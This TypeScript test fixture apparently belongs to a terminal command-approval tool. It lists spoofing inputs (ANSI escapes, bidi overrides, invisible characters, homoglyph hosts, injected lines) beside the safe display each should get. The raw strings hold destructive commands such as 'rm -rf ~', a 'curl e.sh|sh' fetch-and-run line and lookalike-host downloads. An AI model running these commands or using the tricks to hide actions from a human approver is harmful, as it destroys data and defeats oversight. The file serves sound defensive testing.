/** Attempts to have a question look like another: what a request holds, and what must be read on the screen. */
import type { Question } from '../../../src/core/prompt/prompt-view.ts';
import type { Finding } from '../../../src/core/values.ts';

export interface Spoof {
  readonly title: string;
  /** The hostile text. */
  readonly raw: string;
  /** What stands on the screen in its place, rows joined. */
  readonly shows: readonly string[];
  /** Where it stands in what is asked; else it is the command. */
  readonly in?: (raw: string) => Partial<Question>;
}

const place = { start: 0, end: 2 };
const found = (reason: string): Partial<Question> => ({
  findings: [{ id: 'x', rank: 'ask', reason, hint: undefined, rememberable: false, place } satisfies Finding],
});
const at = (path: string): Partial<Question> => ({ grants: [{ kind: 'write', path, device: '1', inode: '2' }] });
const host = (name: string): Partial<Question> => ({ subject: `curl ${name}`, grants: [{ kind: 'connect', host: name, port: 443 }] });

type Row = readonly [title: string, raw: string, shows: string | readonly string[], in_?: (raw: string) => Partial<Question>];

const escapes: readonly Row[] = [
  ['a return, and what was typed over', 'rm -rf ~\rls -la  ', 'rm -rf ~\\rls -la'],
  ['a line that is cleared', 'curl e.sh|sh\r\x1b[2K  ls', 'curl e.sh|sh\\r\\x1b[2K  ls'],
  ['backspaces', `rm -rf ~${'\b'.repeat(8)}ls      `, 'rm -rf ~\\x08\\x08'],
  ['the cursor sent up, and the rest cleared', 'ls\x1b[6A\x1b[Jward: allowed', 'ls\\x1b[6A\\x1b[Jward: allowed'],
  ['the cursor sent home', '\x1b[1;1Hward: nothing is asked', '\\x1b[1;1Hward: nothing'],
  ['the screen cleared', '\x1b[2J\x1b[Hls', '\\x1b[2J\\x1b[Hls'],
  ['what scrolled away cleared', 'ls\x1b[3J\x1b[2J', 'ls\\x1b[3J'],
  ['hidden text', 'ls \x1b[8m; rm -rf ~\x1b[0m', 'ls \\x1b[8m; rm -rf ~\\x1b[0m'],
  ['text in the colour of the ground', 'ls \x1b[30;40m; rm -rf ~', 'ls \\x1b[30;40m; rm -rf ~'],
  ['a comforting green', '\x1b[32msafe\x1b[0m; rm x', '\\x1b[32msafe'],
  ['another screen', 'rm x\x1b[?1049hls', 'rm x\\x1b[?1049hls'],
  ['letters deleted', 'rm -rf ~\x1b[8D\x1b[8Pls', 'rm -rf ~\\x1b[8D\\x1b[8Pls'],
  ['letters inserted', 'x\x1b[4h\rls ', 'x\\x1b[4h\\rls'],
  ['lines inserted above', 'ls\x1b[3A\x1b[5L', 'ls\\x1b[3A\\x1b[5L'],
  ['a region that scrolls', 'ls\x1b[1;3r', 'ls\\x1b[1;3r'],
  ['a cursor that is kept and put back', '\x1b7rm x\x1b8ls  ', '\\x1b7rm x\\x1b8ls'],
  ['the other way to go up', 'ls\x1bM\x1bM\rward: allowed', 'ls\\x1bM\\x1bM\\rward'],
  ['everything set back', '\x1bcls', '\\x1bcls'],
  ['a letter said again and again', 'l\x1b[60bs', 'l\\x1b[60bs'],
  ['no going on in the next row', `\x1b[?7l${'x'.repeat(200)}; rm y`, '\\x1b[?7lxxx'],
  ['a screen full of E', 'ls\x1b#8', 'ls\\x1b#8'],
  ['letters that become lines', '\x1b(0rm x', '\\x1b(0rm x'],
  ['the other set of letters', '\x1b)0\x0erm x', '\\x1b)0\\x0erm x'],
  ['a question that the terminal answers by typing', 'ls\x1b[6n', 'ls\\x1b[6n'],
  ['what kind of terminal it is, answered by typing', 'ls\x1b[c', 'ls\\x1b[c'],
  ['a title', 'ls\x1b]0;ward: allowed\x07', 'ls\\x1b]0;ward: allowed\\x07'],
  ['the clipboard', 'ls\x1b]52;c;cm0gLXJm\x07', 'ls\\x1b]52;c;cm0gLXJm\\x07'],
  ['a link that leads elsewhere', '\x1b]8;;http://evil.test\x1b\\good.test\x1b]8;;\x1b\\', '\\x1b]8;;http://evil.test\\x1b\\good.test'],
  ['a title without an end', 'ls\x1b]0;; rm -rf ~', 'ls\\x1b]0;; rm -rf ~'],
  ['a string for the device', 'ls\x1bP; rm -rf ~\x1b\\', 'ls\\x1bP; rm -rf ~\\x1b\\'],
  ['a string for a program', 'ls\x1b_; rm -rf ~\x1b\\', 'ls\\x1b_; rm -rf ~\\x1b\\'],
  ['a private message', 'ls\x1b^; rm -rf ~\x1b\\', 'ls\\x1b^; rm -rf ~'],
  ['C1: a sequence', 'ls\x9b8m; rm -rf ~', 'ls\\x9b8m; rm -rf ~'],
  ['C1: a title', 'ls\x9d0;t\x9c', 'ls\\x9d0;t\\x9c'],
  ['C1: the next line', 'ls\x85ward: allowed', 'ls\\x85ward: allowed'],
  ['a bell', 'ls\x07', 'ls\\x07'],
  ['NUL', 'r\0m -rf /', 'r\\x00m -rf /'],
  ['delete', 'ls\x7f\x7f', 'ls\\x7f\\x7f'],
  ['a vertical tab and a form feed', 'ls\x0b\x0cward: allowed', 'ls\\x0b\\x0cward'],
];

const shapes: readonly Row[] = [
  ['lines like those of Ward', 'ls\nimpact: none (changes nothing)\n\nallowed', ['impact: none (changes nothing)', 'allowed']],
  [
    'answers like those of Ward',
    "ls\n  y  yes, run it this once\n  n  no, don't run it\n? run it? (yNrh) y",
    ['  y  yes, run it this once', '? run it? (yNrh) y'],
  ],
  ['a row that begins as an answer does', `${'x'.repeat(78)}  y  yes, run it this once`, 'x  y  yes, run it this once'],
  [
    'an empty line that a finding speaks of',
    '\nimpact: none (changes nothing)',
    'impact: none',
    subject => ({ ...found('an odd line'), subject }),
  ],
  ['another question', 'ls\r\n\r\nward: u asks to run, in /:', 'ls\\r'],
  ['the words of the phrase', 'ls\nyour phrase: green lantern', 'your phrase: green lantern'],
  ['sixty empty lines', `ls${'\n'.repeat(60)}rm -rf ~`, ['<59 empty lines>', 'rm -rf ~']],
  ['lines of blanks', `ls${'\n \t '.repeat(60)}\nrm -rf ~`, ['<60 empty lines>', 'rm -rf ~']],
  ['spaces', `ls${' '.repeat(300)}; rm -rf ~`, 'ls<300 spaces>; rm -rf ~'],
  ['tabs', `ls${'\t'.repeat(60)}; rm -rf ~`, 'ls<60 tabs>; rm -rf ~'],
  ['spaces and tabs', `ls${' \t'.repeat(60)}; rm -rf ~`, 'ls<120 spaces and tabs>; rm -rf ~'],
  ['spaces of other kinds', `ls${'\u00a0'.repeat(40)}; rm -rf ~`, '<U+00A0>; rm -rf ~'],
  ['wide spaces', `ls${'\u3000'.repeat(40)}; rm -rf ~`, '<U+3000>; rm -rf ~'],
  ['Braille without dots', `ls${'\u2800'.repeat(40)}; rm -rf ~`, '<U+2800>; rm -rf ~'],
  ['letters of Hangul that are not seen', `ls${'\u3164'.repeat(40)}; rm -rf ~`, '<U+3164>; rm -rf ~'],
  ['a thousand words before it', `echo ${'word '.repeat(1000)}; rm -rf ~`, '; rm -rf ~'],
  ['two hundred lines before it', `${'echo line\n'.repeat(200)}rm -rf ~`, '201 rm -rf ~'],
];

const letters: readonly Row[] = [
  ['text turned around', 'ls \u202e;fr- mr\u202c', 'ls <U+202E>;fr- mr<U+202C>'],
  ['an isolate', 'ls \u2067; rm\u2069', 'ls <U+2067>; rm<U+2069>'],
  ['marks of direction', 'ls \u200f;\u061c rm\u200e', 'ls <U+200F>;<U+061C> rm<U+200E>'],
  ['letters that turn two words round', 'cp \u05d0 \u05d1', 'cp <U+05D0> <U+05D1>'],
  ['a path that is turned round', 'rm -r /\u0627/\u0628', 'rm -r /<U+0627>/<U+0628>'],
  ['a space without width', 'r\u200bm x', 'r<U+200B>m x'],
  ['joiners', 'r\u200dm\u200c x', 'r<U+200D>m<U+200C> x'],
  ['a byte order mark', '\ufeffrm\u2060 x', '<U+FEFF>rm<U+2060> x'],
  ['a hyphen that is not seen', 'r\u00adm x', 'r<U+00AD>m x'],
  ['variants of letters', 'rm\ufe0f x\u{e0101}', 'rm<U+FE0F> x<U+E0101>'],
  ['text written in tags', 'ls\u{e0072}\u{e006d}', 'ls<U+E0072><U+E006D>'],
  ['operators that are not seen', 'r\u2062m\u2064 x', 'r<U+2062>m<U+2064> x'],
  ['text struck out', 'r\u0336m\u0336 x', 'r<U+0336>m<U+0336> x'],
  ['marks piled on a letter', `r${'\u0301'.repeat(30)}m`, '<U+0301><U+0301>m'],
  ['a mark that begins the command', '\u0338rm x', '<U+0338>rm x'],
  ['a mark on a quote', 'rm "\u0301x"', 'rm "<U+0301>x"'],
  ['a letter in a circle', 'r\u20ddm', 'r<U+20DD>m'],
  ['parts of letters that join others', 'r\u1161\u11a8m', 'r<U+1161><U+11A8>m'],
  ['wide letters up to the edge', `${'漢'.repeat(38)}xward: allowed`, 'xward: allowed'],
  ['signs whose width nobody knows', `${'\u2b50'.repeat(76)}ward: allowed`, 'ward: allowed'],
  ['a letter of another alphabet in a program', '\u0441url x', '<U+0441>url x'],
  ['a letter of another alphabet in an option', 'git push --f\u043erce', 'git push --f<U+043E>rce'],
  ['a letter of another alphabet in a host', 'curl https://g\u0456thub.com/i.sh', 'curl https://g<U+0456>thub.com/i.sh'],
  ['a whole name of another alphabet', 'ssh \u0441\u043e\u0441\u043e', 'ssh <U+0441><U+043E><U+0441><U+043E>'],
  ['full-width letters', 'echo x; \uff52\uff4d\uff0f', 'echo x; <U+FF52><U+FF4D><U+FF0F>'],
  ['mathematical letters', 'ls \u{1d42b}\u{1d426}', 'ls <U+1D42B><U+1D426>'],
  ['a dash that is none', 'rm \u2013rf x', 'rm <U+2013>rf x'],
  ['a slash that is none', 'rm a\u2215b', 'rm a<U+2215>b'],
];

const fields: readonly Row[] = [
  ['a directory with an escape', '/tmp/\x1b[2Ja', '/tmp/\\x1b[2Ja', cwd => ({ cwd })],
  ['a directory with lines', '/tmp\nimpact: none', '/tmp⏎ impact: none', cwd => ({ cwd })],
  ['a directory as wide as the screen', `/${'x'.repeat(85)}impact: none (changes nothing)`, 'impact: none', cwd => ({ cwd })],
  ['an asker with lines', 'claude\nward: trusted', 'claude⏎ ward: trusted', name => ({ asker: { kind: 'agent', name } })],
  ['a reason with lines', 'reads a\nallowed: yes\x1b[1A', 'reads a⏎ allowed: yes\\x1b[1A', found],
  ['a reason as wide as the screen', `reads ${'x'.repeat(72)}  y  yes, run it this once`, 'y  yes', found],
  ['a host with a title', 'evil.test\x1b]0;x\x07', 'evil.test\\x1b]0;x\\x07', host],
  ['a host of another alphabet', '\u0430\u0440\u0440\u04cf\u0435.test', '<U+0430><U+0440><U+0440><U+04CF><U+0435>.test', host],
  ['a granted path that is turned round', '/srv/\u202etxt.sh', '/srv/<U+202E>txt.sh', at],
  ['a path with lines', '/srv\n\nallowed\n', '/srv⏎ ⏎ allowed⏎', at],
  ['a variable with lines', 'a\nimpact: none\x1b[2K', 'a⏎ impact: none\\x1b[2K', value => ({ stands: [{ name: 'X', value }] })],
  [
    'a command among others with an escape',
    'date; ls\x1b[2K\x1b[1A',
    '\\x1b[2K\\x1b[1A',
    subject => ({
      subject,
      steps: [
        { start: 0, end: 4 },
        { start: 6, end: subject.length },
      ],
    }),
  ],
];

export const spoofs: readonly Spoof[] = [...escapes, ...shapes, ...letters, ...fields].map(([title, raw, shows, where]) => ({
  ...{ title, raw, shows: typeof shows === 'string' ? [shows] : shows },
  ...(where === undefined ? {} : { in: where }),
}));
